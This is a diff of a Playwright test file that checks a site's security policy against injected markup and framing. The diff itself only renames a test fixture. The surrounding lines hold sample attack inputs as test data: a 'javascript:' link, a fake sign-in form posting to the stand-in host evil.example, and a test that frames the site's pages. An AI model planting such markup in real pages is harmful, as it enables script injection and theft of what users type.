@@ -1,7 +1,7 @@
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { type Browser, expect, type Page, test } from '@playwright/test'
-import { coreAttack, tries } from './support/harm.ts'
+import { core, tries } from './support/harm.ts'
 
 // What somebody would try who got markup into a page or the page into a frame; each is seen to work without the policy.
 
@@ -38,7 +38,7 @@ const markups = {
   'a link of javascript': '<a id="press" href="javascript:void(window.hit = 1)">press</a>',
 }
 for (const [what, markup] of Object.entries(markups)) {
-  test(`${what} in the page does nothing`, coreAttack, async ({ browser }) => {
+  test(`${what} in the page does nothing`, core, async ({ browser }) => {
     for (const bypassed of [true, false]) {
       const page = await open(browser, bypassed, markup)
       const link = page.locator('#press')
@@ -93,7 +93,7 @@ const deeds: Record<string, () => boolean | Promise<boolean>> = {
   },
 }
 for (const [what, deed] of Object.entries(deeds)) {
-  test(`a script cannot ${what}`, coreAttack, async ({ browser }) => {
+  test(`a script cannot ${what}`, core, async ({ browser }) => {
     for (const bypassed of [true, false]) {
       const page = await open(browser, bypassed)
       expect(await page.evaluate(deed).catch(() => false)).toBe(bypassed)
@@ -102,7 +102,7 @@ for (const [what, deed] of Object.entries(deeds)) {
   })
 }
 
-test('a form does not send what was typed to another site', coreAttack, async ({ browser }) => {
+test('a form does not send what was typed to another site', core, async ({ browser }) => {
   const form = '<form action="https://evil.example/"><button id="press">Sign in</button></form>'
   for (const bypassed of [true, false]) {
     const page = await open(browser, bypassed, form)
@@ -116,7 +116,7 @@ test('a form does not send what was typed to another site', coreAttack, async ({
   }
 })
 
-test('no site can show a page of this one in a frame', coreAttack, async ({ page, baseURL }) => {
+test('no site can show a page of this one in a frame', core, async ({ page, baseURL }) => {
   const server = createServer((_, response) => {
     response.setHeader('content-type', 'text/html')
     const frame = (path: string) => `<iframe src="${baseURL}${path}"></iframe>`
